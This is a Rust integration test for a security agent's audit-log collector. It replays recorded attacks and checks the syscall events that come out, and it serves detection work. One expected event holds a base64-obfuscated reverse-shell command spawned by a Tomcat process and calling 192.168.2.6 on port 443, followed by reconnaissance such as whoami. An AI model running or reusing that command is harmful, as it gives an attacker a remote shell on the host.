//! Recorded attacks through a whole agent that follows an audit log, to the embedded log: every event is accounted for, and ten are what was
//! written down by hand from their records.

#[path = "support/recorded.rs"]
mod recorded;
mod support;

use amoskys_bus::{Address, Bus, BusOptions, ReaderOptions, Security, TopicPartition, TopicSpec};
use amoskys_collectors::{
    Agent, AgentConfig, AuditFrom, LogStart, Stream, SyscallMode,
    ledger::{Filter, Origin},
};
use amoskys_proto::v1::{Syscall, SyscallEvent};
use prometheus_client::registry::Registry;
use std::{fs, path::Path, sync::Arc, time::Duration};
use support::{
    audit::{SYSCALLS_TOPIC, events_in},
    *,
};
use tempfile::TempDir;

fn config(folder: &Path, log: &Path) -> AgentConfig {
    let mut config = snapshot_config(folder);
    config.process.snapshot_interval = Duration::from_secs(3_600);
    config.syscall.source = SyscallMode::Audit;
    config.syscall.audit.from = AuditFrom::Log(log.to_owned());
    config.syscall.audit.log_start = LogStart::Beginning;
    config
}

/// The log within a folder, with the topics of an agent.
fn bus(folder: &Path) -> Arc<dyn Bus> {
    let options = BusOptions {
        address: Address::Local { path: folder.join("bus") },
        security: Security::default(),
        client_id: "agent-test".into(),
        extra: Vec::new(),
    };
    let bus = amoskys_bus::open(&options).expect("opens");
    for topic in [TELEMETRY, STATUS, SYSCALLS_TOPIC] {
        let spec = TopicSpec { name: topic.into(), partitions: 1, replication: 1, settings: Vec::new() };
        bus.create_topic(&spec).expect("creates the topic");
    }
    bus
}

fn events_on(bus: &dyn Bus) -> Vec<SyscallEvent> {
    let partition = TopicPartition { topic: SYSCALLS_TOPIC.into(), partition: 0 };
    let mut reader = bus.reader(&ReaderOptions::default()).expect("a reader");
    let (start, end) = reader.bounds(&partition).expect("bounds");
    reader.assign(&partition, start).expect("assigns");
    let (mut next, mut events) = (start, Vec::new());
    wait_until("the end of the partition", || {
        let mut take = |record: &amoskys_bus::Record<'_>| {
            events.extend(events_in(record.payload));
            next = record.offset + 1;
        };
        reader.poll(Duration::from_millis(100), 1_000, &mut take).expect("reads");
        next >= end
    });
    events
}

/// Time, who, result, what, and what audit does not say.
fn written(event: &SyscallEvent) -> String {
    let time = event.observed_at.as_ref().expect("a time");
    let name = Syscall::try_from(event.syscall).expect("in the enum").as_str_name();
    let arguments: Vec<String> = event.arguments.iter().map(|argument| format!("{argument:x}")).collect();
    format!(
        "{}.{:03} {name} by {}/{} of {} uid {}/{} gid {}/{} = {}{} {} [{}] ({}) {}",
        time.seconds,
        time.nanos / 1_000_000,
        event.comm,
        event.pid,
        event.parent_pid,
        event.uid,
        event.euid,
        event.gid,
        event.egid,
        event.result,
        event.error,
        event.path,
        event.argv.join("|"),
        arguments.join(" "),
        event.unreadable.join(" "),
    )
}

/// In the order of the files.
const EXPECTED: [(usize, &str); 10] = [
    (
        0,
        "1604994496.155 SYSCALL_EXECVE by arp/1631 of 29002 uid 1000/1000 gid 1000/1000 = 0 /usr/sbin/arp [arp|-a] \
         (558e251634a0 558e25162a50 558e25160800 8) ",
    ),
    (
        1,
        "1604994496.155 SYSCALL_EXECVE by grep/1632 of 29002 uid 1000/1000 gid 1000/1000 = 0 /bin/grep [grep|-v|^?] \
         (558e251634a0 558e25163720 558e25160800 558e2500a010) ",
    ),
    (
        2,
        "1604996384.965 SYSCALL_EXECVE by dd/2168 of 29002 uid 1000/1000 gid 1000/1000 = 0 /bin/dd \
         [dd|if=/dev/zero|bs=1|count=1] (558e25052c70 558e251641a0 558e25160800 1b6) ",
    ),
    // Tomcat looks for a shell.
    (
        3,
        "1652292621.986 SYSCALL_EXECVE by http-nio-8080-e/17790 of 1340 uid 1001/1001 gid 1001/1001 = -2ENOENT \
         /usr/local/sbin/bash [] (7fcd3bdfb8e0 7fcd3027b7b0 7ffccab2a7d8 b) argv",
    ),
    (
        5,
        "1652292621.986 SYSCALL_EXECVE by http-nio-8080-e/17790 of 1340 uid 1001/1001 gid 1001/1001 = -2ENOENT \
         /sbin/bash [] (7fcd3bdfb8e0 7fcd3027b7b0 7ffccab2a7d8 b) argv",
    ),
    // And is given one.
    (
        8,
        "1652292621.990 SYSCALL_EXECVE by bash/17790 of 1340 uid 1001/1001 gid 1001/1001 = 0 /bin/bash \
         [bash|-c|{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}] \
         (7fcd3bdfb8e0 7fcd3027b7b0 7ffccab2a7d8 b) ",
    ),
    (9, "1652292622.006 SYSCALL_EXECVE by bash/17794 of 17790 uid 1001/1001 gid 1001/1001 = 0 /bin/bash [bash|-i] "),
    (
        10,
        "1652292622.006 SYSCALL_EXECVE by base64/17793 of 17790 uid 1001/1001 gid 1001/1001 = 0 /usr/bin/base64 [base64|-d] ",
    ),
    // A script, by its own name; its arguments are those of the program that reads it.
    (
        12,
        "1652292622.066 SYSCALL_EXECVE by lesspipe/17800 of 17799 uid 1001/1001 gid 1001/1001 = 0 /usr/bin/lesspipe \
         [/bin/sh|/usr/bin/lesspipe] ",
    ),
    (
        37,
        "1652292633.146 SYSCALL_EXECVE by whoami/17832 of 17806 uid 1001/1001 gid 1001/1001 = 0 /usr/bin/whoami [whoami] ",
    ),
];

/// As counted in the files: lines with `type=SYSCALL` and lines with `type=AUOMS_EXECVE`.
const EVENTS: usize = 3 + 50;

#[test]
fn every_recorded_event_comes_out_and_ten_are_as_written_by_hand() {
    let Some(lines) = recorded::lines() else { return };
    let folder = TempDir::new().expect("a folder");
    let log = folder.path().join("audit.log");
    fs::write(&log, lines.join("\n") + "\n").expect("written");
    let bus = bus(folder.path());
    let mut registry = Registry::default();
    let agent = Agent::start(config(folder.path(), &log), Arc::clone(&bus), &mut registry).expect("starts");
    let acknowledged = || agent.numbers().ledger.acknowledged_of(Stream::Syscall);
    wait_until("all events", || acknowledged() >= EVENTS as u64);
    let report = agent.status();
    assert_eq!((report.syscall_source, report.syscall_problem, report.audit_malformed_lines), ("audit_log", None, 0));
    agent.stop(PATIENCE);
    let numbers = agent.numbers();
    agent.join();
    assert_identity(&scrape(&registry));
    let events = events_on(bus.as_ref());
    let told: Vec<String> = events.iter().map(written).collect();
    for (place, expected) in EXPECTED {
        assert!(told[place].starts_with(expected), "{place}\n{expected}\n{}", told[place]);
    }
    // All the others are there, each once.
    let ledger = &numbers.ledger;
    assert_eq!(
        (told.len(), ledger.seen_from(Origin::Audit), ledger.filtered_of(Stream::Syscall)),
        (EVENTS, EVENTS as u64, 0)
    );
    let failed = events.iter().filter(|event| event.result == -2 && event.unreadable == ["argv"]).count();
    let started = events.iter().filter(|event| event.result == 0 && !event.argv.is_empty()).count();
    assert_eq!((failed, started), (23, 30), "as `success=no` and `success=yes` are in the files");
    assert!(events.iter().all(|event| event.process_key == 0), "who has such an id now is another");
    assert_eq!((numbers.audit.records, numbers.audit.late_records), (lines.len() as u64, 0));
    assert_eq!(ledger.filtered_as(Filter::NotSyscall), 0);
}
